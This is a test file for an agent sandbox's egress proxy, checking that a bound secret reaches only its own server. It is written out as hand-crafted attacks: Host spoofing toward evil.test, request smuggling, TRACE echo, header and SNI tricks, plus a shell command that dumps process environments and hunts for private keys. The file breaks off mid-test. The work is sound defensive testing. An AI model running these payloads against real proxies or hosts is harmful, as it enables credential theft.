/**
 * Bound secrets under attack from inside the sandbox, through the built CLI on the real engine. The
 * sandbox holds only placeholders (TOKEN bound to api.bound.test's Authorization header, SELF bound
 * to self.test as basic auth's password) and talks to the egress proxy byte for byte
 * (boundSecretsAttack.ts). Every case checks what the test's own servers on 127.0.0.1 received: the
 * value may arrive only at the bound server, only in its Authorization header, only in a request
 * whose one Host names the bound domain and whose target is a path; SELF's value (its server is
 * self-signed, so never verified) arrives nowhere. Refused attempts show in the decision log. The
 * values and the order of the concurrent case come from a seed, printed (AGENT_SANDBOX_HOSTILE_SEED
 * runs one again). Needs dist/ (node esbuild.mjs).
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { X509Certificate, randomInt } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingMessage, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TLSSocket } from 'node:tls';
import { CLI, runCliText } from '../engine/cliRunner';
import { TEST_IMAGES, requireEngine } from '../engine/harness';
import { ATTACK_SCRIPT, type AttackAnswer, type AttackJob, type TlsJob } from './boundSecretsAttack';
import { observe } from './report';

const SEED = Number(process.env.AGENT_SANDBOX_HOSTILE_SEED ?? randomInt(2 ** 31));

/** mulberry32: the test's only source of randomness. */
function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}
const random = seeded(SEED);
const hex = (bytes: number) =>
  Array.from({ length: bytes }, () =>
    Math.floor(random() * 256)
      .toString(16)
      .padStart(2, '0'),
  ).join('');
const VALUE = `bound-canary-${hex(12)}`;
const SELF_VALUE = `self-canary-${hex(12)}`;
const BOUND = 'api.bound.test';
const AREA = 'bound secrets (cli)';

interface Seen {
  server: string;
  method: string;
  url: string;
  version: string;
  rawHeaders: string[];
  body: string;
}

const ssl = (dir: string, ...args: string[]) => execFileSync('openssl', args, { cwd: dir, stdio: 'pipe' });

/** A CA of the test's own, and leaves it signs (made with openssl). */
function testCa(dir: string): { ca: string; leaf(name: string, names: string[]): { key: string; cert: string } } {
  ssl(
    dir,
    ...['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2'],
    ...['-subj', '/CN=hostile bound secrets test CA', '-addext', 'basicConstraints=critical,CA:TRUE'],
    ...['-addext', 'keyUsage=critical,keyCertSign,cRLSign'],
  );
  return {
    ca: join(dir, 'ca.pem'),
    leaf(name, names) {
      ssl(
        dir,
        'req',
        '-newkey',
        'rsa:2048',
        '-nodes',
        '-keyout',
        `${name}.key`,
        '-out',
        `${name}.csr`,
        '-subj',
        `/CN=${names[0]}`,
      );
      writeFileSync(
        join(dir, `${name}.ext`),
        `subjectAltName=${names.map((n) => `DNS:${n}`).join(',')}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n`,
      );
      ssl(
        dir,
        'x509',
        '-req',
        '-in',
        `${name}.csr`,
        '-CA',
        'ca.pem',
        '-CAkey',
        'ca.key',
        '-CAcreateserial',
        '-out',
        `${name}.pem`,
        '-days',
        '2',
        '-extfile',
        `${name}.ext`,
      );
      return {
        key: readFileSync(join(dir, `${name}.key`), 'utf8'),
        cert: readFileSync(join(dir, `${name}.pem`), 'utf8'),
      };
    },
  };
}

/** A certificate signed by itself, for a server the proxy must not trust. */
function selfSigned(dir: string, name: string): { key: string; cert: string } {
  ssl(
    dir,
    'req',
    '-x509',
    '-newkey',
    'rsa:2048',
    '-nodes',
    '-keyout',
    'self.key',
    '-out',
    'self.pem',
    '-days',
    '2',
    '-subj',
    `/CN=${name}`,
    '-addext',
    `subjectAltName=DNS:${name}`,
  );
  return { key: readFileSync(join(dir, 'self.key'), 'utf8'), cert: readFileSync(join(dir, 'self.pem'), 'utf8') };
}

const count = (text: string, part: string) => text.split(part).length - 1;
const hostName = (value: string) => value.toLowerCase().replace(/:\d+$/, '').replace(/\.$/, '');

describe('bound secrets attacked from inside the sandbox (cli)', function () {
  this.timeout(300_000);
  const work = mkdtempSync(join(tmpdir(), 'agent-sandbox-hostile-bound-'));
  const folder = join(work, 'folder');
  const state = join(work, 'state');
  const seen: Seen[] = [];
  /** What each TLS server read, decrypted, per connection: a request smuggled past its parser shows here. */
  const raw: { server: string; bytes: string }[] = [];
  const servers: Server[] = [];
  const ports: Record<'bound' | 'other' | 'self' | 'plain', number> = { bound: 0, other: 0, self: 0, plain: 0 };
  let env: NodeJS.ProcessEnv;
  let placeholder = '';

  const cli = (args: string[]) => runCliText([args[0]!, '--folder', folder, ...args.slice(1)], { env, stdin: '' });
  const exec = async (argv: string[], ...flags: string[]) => {
    const run = await cli(['exec', '--session', 'hostile-bound', ...flags, '--', ...argv]);
    assert.equal(run.code, 0, run.stderr);
    return run.stdout;
  };
  const attack = async <T extends AttackJob>(job: T) => {
    // As the sandbox read it: the CLI would show the value as [secret:TOKEN].
    const text = await exec(
      ['node', '/tmp/attack.js', Buffer.from(JSON.stringify(job)).toString('base64')],
      '--show-secrets',
    );
    return JSON.parse(text) as T extends { kind: 'parallel' } ? AttackAnswer[] : AttackAnswer;
  };
  const decisionLines = () =>
    readdirSync(join(state, 'egress')).flatMap((id) => {
      const file = join(state, 'egress', id, 'decisions.jsonl');
      return existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter(Boolean) : [];
    });
  /** Where the next case starts: what the servers and the log held before it. */
  const mark = () => {
    unlogged.length = 0;
    return { seen: seen.length, raw: raw.map(({ bytes }) => bytes.length), log: decisionLines().length };
  };
  type Mark = ReturnType<typeof mark>;
  /** The notes of the decisions logged since `from`, once every note wanted is there (the log is written when a connection closes). */
  const notesSince = async (from: Mark, ...wanted: RegExp[]) => {
    let notes: string[] = [];
    for (let attempt = 0; attempt < 100; attempt++) {
      notes = decisionLines()
        .slice(from.log)
        .flatMap((line) => (JSON.parse(line) as { secrets?: string[] }).secrets ?? []);
      if (wanted.every((pattern) => notes.some((note) => pattern.test(note)))) break;
      await new Promise((done) => setTimeout(done, 100));
    }
    unlogged.push(
      ...wanted
        .filter((pattern) => !notes.some((note) => pattern.test(note)))
        .map((pattern) => `not logged: ${pattern}`),
    );
    return notes;
  };
  /** What the cases awaited in the log and did not find: each case's check reports it. */
  const unlogged: string[] = [];
  /** Every way the value reached somewhere it must not, since `from`. */
  const leaks = (from: Mark): string[] => {
    const found: string[] = [];
    let allowed = 0;
    for (const request of seen.slice(from.seen)) {
      const text = `${request.method} ${request.url} ${request.rawHeaders.join('\n')} ${request.body}`;
      const where = `${request.server}: ${request.method} ${request.url.slice(0, 60)}`;
      if (text.includes(SELF_VALUE)) found.push(`SELF's value reached ${where}`);
      if (!text.includes(VALUE)) continue;
      const hosts = request.rawHeaders.filter(
        (_, index) => index % 2 === 0 && /^host$/i.test(request.rawHeaders[index]!),
      );
      const hostValues = request.rawHeaders.filter(
        (_, index) => index % 2 === 1 && /^host$/i.test(request.rawHeaders[index - 1]!),
      );
      if (request.server !== 'bound') found.push(`the value reached ${where}`);
      if (!request.url.startsWith('/') && request.url !== '*')
        found.push(`the value went with the target ${request.url.slice(0, 60)}`);
      if (hosts.length !== 1 || hostName(hostValues[0]!) !== BOUND)
        found.push(`the value went with Host ${JSON.stringify(hostValues)}`);
      if (/^(TRACE|TRACK)$/.test(request.method)) found.push(`the value went in a ${request.method} request`);
      if (request.url.includes(VALUE) || request.body.includes(VALUE))
        found.push(`the value is in ${where}'s URL or body`);
      for (let index = 0; index + 1 < request.rawHeaders.length; index += 2) {
        const [name, value] = [request.rawHeaders[index]!, request.rawHeaders[index + 1]!];
        if (!value.includes(VALUE)) continue;
        if (name.toLowerCase() === 'authorization' && value === `Bearer ${VALUE}`) allowed++;
        else found.push(`the value is in the header ${name}: ${value.slice(0, 60)}`);
      }
    }
    // Kept connections go on in the same entry: only what each read since the mark.
    const since = raw.map(({ bytes }, index) => bytes.slice(from.raw[index] ?? 0));
    const rawValues = since.reduce((sum, bytes) => sum + count(bytes, VALUE), 0);
    const rawSelf = since.reduce((sum, bytes) => sum + count(bytes, SELF_VALUE), 0);
    if (rawValues !== allowed) found.push(`the servers read the value ${rawValues} times, ${allowed} of them allowed`);
    if (rawSelf) found.push(`the servers read SELF's value ${rawSelf} times`);
    if (decisionLines().join('\n').includes(VALUE)) found.push('the value is in the decision log');
    return found;
  };
  /** Requests since `from` that carried the value (in their one Authorization header). */
  const valued = (from: Mark) =>
    seen.slice(from.seen).filter((request) => request.rawHeaders.includes(`Bearer ${VALUE}`));
  const tls = (writes: string[], more: Partial<TlsJob> = {}): TlsJob => ({
    kind: 'tls',
    connect: `${BOUND}:${ports.bound}`,
    verify: true,
    writes,
    ...more,
  });
  const AUTH = 'Authorization: Bearer {TOKEN}\r\n';
  const get = (path: string, host = BOUND, close = true, more = '') =>
    `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${AUTH}${more}${close ? 'Connection: close\r\n' : ''}\r\n`;
  /** Records a case in the report, then asserts it. */
  const check = (attack: string, expected: string, from: Mark, observed: string, more: string[] = []) => {
    const found = [...leaks(from), ...more, ...unlogged.splice(0)];
    observe(AREA, attack, expected, found.length ? `${found.join('; ')} (${observed})` : observed, found.length === 0);
    assert.deepEqual(found, [], `seed ${SEED}`);
  };

  before(async function () {
    await requireEngine(this);
    assert.ok(existsSync(CLI), `build the CLI first (node esbuild.mjs): ${CLI}`);
    process.stdout.write(
      `      seed ${SEED} (AGENT_SANDBOX_HOSTILE_SEED=${SEED} runs it again): TOKEN=${VALUE}, SELF=${SELF_VALUE}\n`,
    );
    execFileSync('mkdir', ['-p', folder, state]);
    const ca = testCa(work);
    const boundLeaf = ca.leaf('bound', [BOUND, `deep.${BOUND}`]);
    const otherLeaf = ca.leaf('other', ['other.test']);
    const record = (server: string) => (request: IncomingMessage, response: import('node:http').ServerResponse) => {
      // Recorded on arrival: a request whose body never ends has still arrived.
      const entry = {
        server,
        method: request.method ?? '',
        url: request.url ?? '',
        version: request.httpVersion,
        rawHeaders: request.rawHeaders,
        body: '',
      };
      seen.push(entry);
      request.on('data', (chunk: Buffer) => (entry.body += chunk.toString('latin1')));
      request.on('end', () => {
        if (server === 'bound' && request.method === 'TRACE') {
          // A server that answers TRACE as RFC 9110 says: the request it received, as the body.
          response.writeHead(200, { 'content-type': 'message/http' });
          return void response.end(`TRACE ${entry.url} HTTP/1.1\r\n${request.rawHeaders.join('\r\n')}\r\n`);
        }
        if (server === 'bound' && request.url === '/echo') return void response.end(JSON.stringify(request.headers));
        if (server === 'bound' && request.url === '/redirect') {
          response.writeHead(302, { location: `https://other.test:${ports.other}/landed` });
          return void response.end();
        }
        response.end(`hello from ${server}`);
      });
    };
    const tlsServer = (name: 'bound' | 'other' | 'self', leaf: { key: string; cert: string }) => {
      const server = createHttpsServer(leaf, record(name));
      server.on('secureConnection', (socket: TLSSocket) => {
        const entry = { server: name, bytes: '' };
        raw.push(entry);
        socket.on('data', (chunk: Buffer) => (entry.bytes += chunk.toString('latin1')));
      });
      return server;
    };
    for (const [name, server] of [
      ['bound', tlsServer('bound', boundLeaf)],
      ['other', tlsServer('other', otherLeaf)],
      ['self', tlsServer('self', selfSigned(work, 'self.test'))],
      ['plain', createHttpServer(record('plain'))],
    ] as const) {
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
      ports[name] = (server.address() as AddressInfo).port;
      servers.push(server);
    }
    env = {
      ...process.env,
      AGENT_SANDBOX_IMAGE_PYTHON: TEST_IMAGES.python,
      AGENT_SANDBOX_IMAGE_NODE: TEST_IMAGES.node,
      AGENT_SANDBOX_POOL_SIZE: '0',
      AGENT_SANDBOX_STATE_DIR: state,
      AGENT_SANDBOX_EGRESS_EXTRA_CA: ca.ca,
      TOKEN: VALUE,
      SELF: SELF_VALUE,
    };
    const maps = [BOUND, `deep.${BOUND}`, 'other.test', 'self.test'].flatMap((name) => [
      '--map-host',
      `${name}=127.0.0.1`,
    ]);
    const opened = await cli([
      'open',
      '--session',
      'hostile-bound',
      '--runtime',
      'node',
      '--secret',
      `TOKEN=${BOUND}:header:Authorization: Bearer {value}`,
      '--secret',
      'SELF=self.test:basic:me',
      ...maps,
      '--allow-domain',
      'other.test',
      '--allow-domain',
      `*.${BOUND}`,
    ]);
    assert.equal(opened.code, 0, opened.stderr);
    await exec(['sh', '-c', `cat > /tmp/attack.js <<'EOF'\n${ATTACK_SCRIPT}\nEOF`]);
    placeholder = (await exec(['sh', '-c', 'printf %s "$TOKEN"'], '--show-secrets')).trim();
    assert.match(placeholder, /^agent-sandbox-placeholder-[0-9a-f]{32}$/);
  });

  after(async () => {
    if (env) await cli(['close', '--all']);
    for (const server of servers) server.close();
    rmSync(work, { recursive: true, force: true });
  });

  it('the attacker`s baseline: a request to the bound domain gets the value, in its header only', async () => {
    const from = mark();
    const answer = await attack(tls([get('/')]));
    assert.match(answer.answer, /hello from bound$/, JSON.stringify(answer));
    assert.equal(valued(from).length, 1);
    assert.ok(
      raw.some(({ bytes }, index) => bytes.length > (from.raw[index] ?? 0)),
      'the servers` reads are recorded',
    );
    assert.ok(
      (await notesSince(from, /^TOKEN added for api\.bound\.test$/)).includes('TOKEN added for api.bound.test'),
    );
    check(
      'a request to the bound domain with the placeholder (baseline)',
      'the value at the bound server only',
      from,
      'added, once',
    );
  });

  it('keep-alive: a second request on the intercepted connection names another Host', async () => {
    const from = mark();
    const answer = await attack(tls([get('/first', BOUND, false), get('/second', 'evil.test')]));
    assert.equal(count(answer.answer, 'hello from bound'), 2, answer.answer);
    const notes = await notesSince(from, /TOKEN sent toward evil\.test: not replaced/);
    assert.equal(valued(from).length, 1);
    assert.equal(seen.at(-1)!.rawHeaders.includes(`Bearer ${placeholder}`), true);
    check(
      'keep-alive on the intercepted connection, then Host: evil.test',
      'the second request carries the placeholder; logged',
      from,
      notes.join(', '),
    );
  });

  it('absolute-form targets (https:// and http:// another name) with Host: the bound domain', async () => {
    const from = mark();
    await attack(tls([get('https://evil.test/steal', BOUND, false), get('http://evil.test:80/steal')]));
    const notes = await notesSince(from, /TOKEN sent toward evil\.test: not replaced/);
    check(
      'GET https://evil.test/ inside the bound domain`s TLS (the upstream routes by the target: RFC 9112 3.2.2)',
      'never given the value; logged',
      from,
      notes.join(', '),
      valued(from).length ? [`${valued(from).length} requests for evil.test got the value`] : [],
    );
  });

  it('two Host headers, an empty Host, and no Host at all (HTTP/1.0)', async () => {
    const from = mark();
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls([`GET /two HTTP/1.1\r\nHost: ${BOUND}\r\nHost: evil.test\r\n${AUTH}Connection: close\r\n\r\n`]),
        tls([`GET /two HTTP/1.1\r\nhost: evil.test\r\nHOST: ${BOUND}\r\n${AUTH}Connection: close\r\n\r\n`]),
        tls([`GET /empty HTTP/1.1\r\nHost: \r\n${AUTH}Connection: close\r\n\r\n`]),
        tls([`GET /none HTTP/1.0\r\n${AUTH}\r\n`]),
      ],
    });
    const notes = await notesSince(from, /Host headers: not replaced/, /sent toward an empty Host: not replaced/);
    const none = seen.slice(from.seen).find((request) => request.url === '/none');
    const more: string[] = [];
    // Without a Host the request goes on for the CONNECT's name: the proxy names it, so the upstream never guesses.
    if (none && !none.rawHeaders.some((text, index) => index % 2 === 0 && /^host$/i.test(text)))
      more.push('a request without Host went on without one');
    check(
      'two Host headers (either order), an empty Host, an HTTP/1.0 request without Host',
      'the value only with one Host naming the bound domain; logged',
      from,
      `${answers.map((answer) => answer.answer.split('\r\n')[0]).join(', ')}; ${notes.join(', ')}`,
      more,
    );
  });

  it('TRACE: the bound server answers with the request it received', async () => {
    const from = mark();
    const answer = await attack(tls([`TRACE / HTTP/1.1\r\nHost: ${BOUND}\r\n${AUTH}Connection: close\r\n\r\n`]));
    const notes = await notesSince(from, /TOKEN toward api\.bound\.test in a TRACE request: not replaced/);
    check(
      'TRACE to the bound domain (the answer repeats the request, so the sandbox would read the value)',
      'never given the value; logged',
      from,
      notes.join(', '),
      answer.answer.includes(VALUE) ? ['the sandbox read the value in the TRACE answer'] : [],
    );
  });

  it('pipelined requests in one write, mixed Hosts, ports, case and a final dot', async () => {
    const from = mark();
    const answer = await attack(
      tls([
        get('/1', BOUND, false) +
          get('/2', 'evil.test', false) +
          get('/3', `${BOUND}:443`, false) +
          get('/4', 'API.BOUND.TEST.', false) +
          get('/5', `${BOUND}.evil.test`, false) +
          get('/6', `evil.test#${BOUND}`, false) +
          get('/7', `${BOUND}@evil.test`),
      ]),
    );
    await notesSince(from, /TOKEN sent toward evil\.test: not replaced/);
    const given = valued(from)
      .map((request) => request.url)
      .sort();
    check(
      'pipelined: Host evil.test, api.bound.test:443, API.BOUND.TEST., api.bound.test.evil.test, evil.test#…, …@evil.test',
      'the value only where the Host names the bound domain (/1, /3, /4)',
      from,
      `given to ${given.join(' ')}; ${count(answer.answer, 'HTTP/1.1 200')} answers`,
      given.join(' ') === '/1 /3 /4' ? [] : [`given to ${given.join(' ')}`],
    );
  });

  it('header tricks: name case, a duplicate, a split placeholder, another header, obs-fold, NUL, bare CR and LF', async () => {
    const from = mark();
    const head = (lines: string) => `GET /h HTTP/1.1\r\nHost: ${BOUND}\r\n${lines}Connection: close\r\n\r\n`;
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls([head('AUTHORIZATION: Bearer {TOKEN}\r\naUtHoRiZaTiOn: Bearer {TOKEN}\r\n')]),
        tls([head('Authorization: Bearer agent-sandbox-\r\nAuthorization: placeholder-{TOKEN}\r\n')]),
        tls([head('X-Api-Key: Bearer {TOKEN}\r\nCookie: t={TOKEN}\r\n')]),
        tls([head('Authorization: Bearer\r\n {TOKEN}\r\n')]),
        tls([head('X-A: a\r\n Host: evil.test\r\nAuthorization: Bearer {TOKEN}\r\n')]),
        tls([head('Authorization: Bearer {TOKEN}\0evil\r\n')]),
        tls([head('X-A: a\rHost: evil.test\r\nAuthorization: Bearer {TOKEN}\r\n')]),
        tls([`GET /h HTTP/1.1\nHost: evil.test\nAuthorization: Bearer {TOKEN}\nConnection: close\n\n`]),
        tls([head('Host : evil.test\r\nAuthorization: Bearer {TOKEN}\r\n')]),
        tls([head('Authorization:  Bearer {TOKEN} \r\n')]),
        tls([head('Authorization: bearer {TOKEN}\r\n')]),
      ],
    });
    await notesSince(from, /not replaced/);
    const given = valued(from).length;
    check(
      'Authorization in other case and twice, split in two, in X-Api-Key and Cookie, folded, with NUL, bare CR, bare LF, space before the colon, padded, lower-case scheme',
      'the value only in the exact Authorization form; malformed heads refused',
      from,
      `${given} requests given the value; answers ${answers.map((answer) => answer.answer.split('\r\n')[0]?.slice(9, 12) ?? answer.error).join(' ')}`,
    );
  });

  it('request smuggling: TE with CL, TE identity, TE chunked then gzip, two CLs, a request in a body', async () => {
    const from = mark();
    const inner = `GET /inner HTTP/1.1\r\nHost: evil.test\r\n${AUTH}\r\n`;
    // Lengths as the sandbox sends them, with the placeholder in place of {TOKEN}.
    const size = Buffer.byteLength(inner.split('{TOKEN}').join(placeholder));
    const post = (lines: string, body: string) => `POST /s HTTP/1.1\r\nHost: ${BOUND}\r\n${AUTH}${lines}\r\n${body}`;
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls([post('Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${inner}`)]),
        tls([post('Transfer-Encoding: identity\r\nConnection: close\r\n', inner)]),
        tls([post('Transfer-Encoding: chunked, gzip\r\nConnection: close\r\n', `3\r\nabc\r\n0\r\n\r\n${inner}`)]),
        tls([post('Content-Length: 3\r\nContent-Length: 300\r\n', `abc${inner}`)]),
        tls([post(`Content-Length: ${size}\r\n`, inner) + get('/after')]),
        tls([post('Transfer-Encoding: chunked\r\n', `${size.toString(16)}\r\n${inner}\r\n0\r\n\r\n`) + get('/after')]),
        tls([post('Transfer-Encoding: chunked\r\n', `0\r\n${AUTH}\r\n`) + get('/after')]),
      ],
    });
    await notesSince(from, /TOKEN in a body toward api\.bound\.test: not replaced/);
    const inners = seen.slice(from.seen).filter((request) => request.url === '/inner').length;
    check(
      'CL.TE, TE identity, TE chunked,gzip, two Content-Lengths, a request as a body (CL and chunked), a placeholder in a trailer',
      'no second request reaches a server; the value only in the one request of each',
      from,
      `answers ${answers.map((answer) => answer.answer.split('\r\n')[0]?.slice(9, 12) ?? answer.error).join(' ')}; given to ${valued(
        from,
      )
        .map((request) => `${request.method} ${request.url}`)
        .join(', ')}`,
      inners ? [`${inners} smuggled requests reached a server`] : [],
    );
  });

  it('very large heads: a 20 KB header, and a second Host after 2,100 headers', async () => {
    const from = mark();
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls([get('/large', BOUND, true, 'X-Pad: {PAD:20000}\r\n')]),
        tls([get('/many', BOUND, false, 'a: b\r\n'.repeat(2100)) + `Host: evil.test\r\nConnection: close\r\n\r\n`]),
      ],
    });
    const large = seen.slice(from.seen).some((request) => request.url === '/large');
    check(
      'a 20 KB header to the bound domain; Host: evil.test after 2,100 headers (past what the proxy reads)',
      'the large head refused (431); the value only with the one Host the proxy read and sent on',
      from,
      `answers ${answers.map((answer) => answer.answer.split('\r\n')[0]?.slice(9, 12) ?? answer.error).join(' ')}; ${valued(from).length} given the value`,
      large ? ['the 20 KB head reached the server'] : [],
    );
  });

  it('HTTP/2: ALPN h2, an h2c upgrade, the prior-knowledge preface', async () => {
    const from = mark();
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls([get('/alpn')], { alpn: ['h2', 'http/1.1'] }),
        tls([
          get(
            '/up',
            BOUND,
            false,
            'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n',
          ) + get('/after-upgrade', 'evil.test'),
        ]),
        tls(['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n']),
      ],
    });
    check(
      'ALPN h2 offered, h2c upgrade followed by a request for evil.test, the HTTP/2 preface',
      'HTTP/1.1 only; the value only in requests for the bound domain',
      from,
      `ALPN ${String(answers[0]!.alpn)}; preface answered ${answers[2]!.answer.split('\r\n')[0]}`,
      answers[0]!.alpn === 'h2' ? ['h2 was negotiated'] : [],
    );
  });

  it('SNI and CONNECT games: another SNI, a bound SNI in a CONNECT to another name, the ClientHello in the CONNECT`s head, a wildcard', async () => {
    const from = mark();
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls([get('/sni')], { sni: 'evil.test', verify: false }),
        tls([get('/other-connect')], { connect: `other.test:${ports.other}`, sni: BOUND }),
        tls([get('/other-connect-any')], { connect: `other.test:${ports.other}`, sni: BOUND, verify: false }),
        tls([get('/early')], { early: true, verify: false }),
        tls([get('/deep')], { connect: `deep.${BOUND}:${ports.bound}`, verify: false }),
        tls([get('/dot')], { connect: `API.BOUND.TEST.:${ports.bound}` }),
      ],
    });
    const given = valued(from).map((request) => request.url);
    // A CONNECT to a name no secret is bound to is a blind tunnel: the session CA signs nothing for it.
    const more =
      answers[1]!.error && /certificate|self.signed|issuer/i.test(answers[1]!.error)
        ? []
        : ['the sandbox verified other.test with the session CA'];
    check(
      'SNI evil.test to the bound CONNECT; SNI api.bound.test in a CONNECT to other.test; CONNECT with the ClientHello in its head; *.api.bound.test; API.BOUND.TEST.',
      'the value only to the bound server, in requests the proxy intercepted; no leaf for other names',
      from,
      `given to ${given.join(' ')}`,
      [...more, ...given.filter((url) => !['/sni', '/dot'].includes(url)).map((url) => `${url} was given the value`)],
    );
  });

  it('plain HTTP to the bound domain, and Proxy-Authorization on every path', async () => {
    const from = mark();
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        {
          kind: 'plain',
          writes: [
            `GET http://${BOUND}:${ports.plain}/plain HTTP/1.1\r\nHost: ${BOUND}:${ports.plain}\r\n${AUTH}Proxy-Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n`,
          ],
        },
        tls([get('/pa', BOUND, true, 'Proxy-Authorization: Bearer {TOKEN}\r\n')], {
          connectHeaders: 'Proxy-Authorization: Bearer {TOKEN}\r\n',
        }),
      ],
    });
    const notes = await notesSince(from, /TOKEN sent toward api\.bound\.test: not replaced/);
    const plain = seen.slice(from.seen).find((request) => request.url === '/plain');
    const forwarded = seen
      .slice(from.seen)
      .filter((request) => request.rawHeaders.some((text) => /^proxy-authorization$/i.test(text)));
    check(
      'plain HTTP to api.bound.test; Proxy-Authorization with the placeholder on the CONNECT, inside TLS and in plain HTTP',
      'plain HTTP keeps the placeholder (logged); Proxy-Authorization goes nowhere',
      from,
      `plain got ${plain?.rawHeaders.includes(`Bearer ${placeholder}`) ? 'the placeholder' : 'no placeholder'}; ${answers.length} answers; ${notes.join(', ')}`,
      [
        ...(plain?.rawHeaders.includes(`Bearer ${placeholder}`)
          ? []
          : ['the plain request did not arrive with the placeholder']),
        ...(forwarded.length ? [`${forwarded.length} requests arrived with Proxy-Authorization`] : []),
      ],
    );
  });

  it('a redirect from the bound server to another host is not followed by the proxy; a client that follows carries the placeholder', async () => {
    const from = mark();
    const first = await attack(tls([get('/redirect')]));
    const location = /\r\nlocation: (\S+)\r\n/i.exec(first.answer)?.[1] ?? '';
    const landedBefore = seen.slice(from.seen).some((request) => request.server === 'other');
    const target = new URL(location);
    // The client follows, with its Authorization header (Python's urllib does).
    await attack(tls([get(target.pathname, target.hostname)], { connect: target.host, verify: false }));
    const landed = seen.slice(from.seen).find((request) => request.server === 'other');
    check(
      'the bound server redirects (302) to other.test; the client follows with its Authorization header',
      'the proxy passes the 302 on; other.test gets the placeholder',
      from,
      `302 to ${location}; other.test got ${landed?.rawHeaders.includes(`Bearer ${placeholder}`) ? 'the placeholder' : 'nothing'}`,
      [
        ...(landedBefore ? ['the proxy followed the redirect'] : []),
        ...(landed?.rawHeaders.includes(`Bearer ${placeholder}`) ? [] : ['the followed request did not arrive']),
      ],
    );
  });

  it('the bound server echoes the Authorization header back (inherent, documented)', async () => {
    const from = mark();
    const answer = await attack(tls([get('/echo')]));
    const read = answer.answer.includes(VALUE);
    // Not containable by the proxy: what the bound server answers is the sandbox's to read.
    observe(
      AREA,
      'the bound server echoes the request`s headers in its answer',
      'the sandbox reads the value: inherent (bind secrets only to servers that do not echo them; README)',
      read ? 'read, as documented' : 'not read',
      true,
    );
    assert.deepEqual(leaks(from), []);
    assert.ok(read, 'the echo reached the sandbox');
  });

  it('upstream verification: a self-signed bound server, the bound name on ports of other servers', async () => {
    const from = mark();
    const answers = await attack({
      kind: 'parallel',
      jobs: [
        tls(
          [`GET /self HTTP/1.1\r\nHost: self.test\r\nAuthorization: Basic {SELF_BASIC}\r\nConnection: close\r\n\r\n`],
          {
            connect: `self.test:${ports.self}`,
          },
        ),
        tls([get('/self-port')], { connect: `${BOUND}:${ports.self}` }),
        tls([get('/other-port')], { connect: `${BOUND}:${ports.other}` }),
        tls([get('/plain-port')], { connect: `${BOUND}:${ports.plain}` }),
        tls([`GET / HTTP/1.1\r\nHost: ${BOUND}\r\nAuthorization: Basic {SELF_BASIC}\r\nConnection: close\r\n\r\n`]),
      ],
    });
    const refused = answers.slice(0, 4).filter((answer) => /^HTTP\/1\.1 502/.test(answer.answer));
    const reached = seen.slice(from.seen).filter((request) => request.server !== 'bound');
    await notesSince(from, /SELF sent toward api\.bound\.test: not replaced/);
    check(
      'SELF to its self-signed server; api.bound.test on the self-signed, other.test and plain HTTP servers` ports; SELF`s placeholder to api.bound.test',
      'the proxy verifies every upstream: 502, and no value anywhere',
      from,
      `${refused.length} of 4 answered 502; ${reached.length} requests reached other servers`,
      [
        ...(refused.length === 4
          ? []
          : [`${4 - refused.length} were not refused: ${answers.map((a) => a.answer.slice(0, 40)).join(' | ')}`]),
        ...reached.map((request) => `${request.server} got ${request.url}`),
      ],
    );
  });

  it('many concurrent connections, half for the bound Host and half for evil.test, in a seeded order', async () => {
    const from = mark();
    const hosts: string[] = Array.from({ length: 48 }, (_, index) => (index % 2 ? BOUND : 'evil.test'));
    for (let index = hosts.length - 1; index > 0; index--) {
      const other = Math.floor(random() * (index + 1));
      [hosts[index], hosts[other]] = [hosts[other]!, hosts[index]!];
    }
    await attack({ kind: 'parallel', jobs: hosts.map((host, index) => tls([get(`/c${index}-${host}`, host)])) });
    const given = valued(from);
    const wrong = given.filter((request) => !request.url.endsWith(`-${BOUND}`));
    check(
      `48 concurrent intercepted connections (seed ${SEED})`,
      'exactly the 24 for the bound Host get the value',
      from,
      `${given.length} given the value, ${seen.length - from.seen} arrived`,
      [
        ...(given.length === 24 ? [] : [`${given.length} given the value`]),
        ...wrong.map((request) => `${request.url} was given the value`),
      ],
    );
  });

  it('the session CA`s key is nowhere the sandbox or the state folder holds; the CA signs nothing below it', async () => {
    const dump = await exec(
      [
        'sh',
        '-c',
        'for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/root/run/*/*; do cat "$f" 2>/dev/null; echo; done; grep -rIl "PRIVATE[ ]KEY" /tmp /home /workspace /run /etc /usr/local/etc 2>/dev/null; ls /proc/*/root/ 2>&1 | grep -c "Permission denied"; true',
      ],
      '--show-secrets',
    );
    const stateFiles = execFileSync('sh', ['-c', 'grep -rIl "PRIVATE KEY" "$0"; true', state], {
      encoding: 'utf8',
    }).trim();
    const caFile = readdirSync(join(state, 'egress'))
      .map((id) => join(state, 'egress', id, 'ca.pem'))
      .find((file) => existsSync(file));
    assert.ok(caFile, 'the proxy wrote its CA certificate');
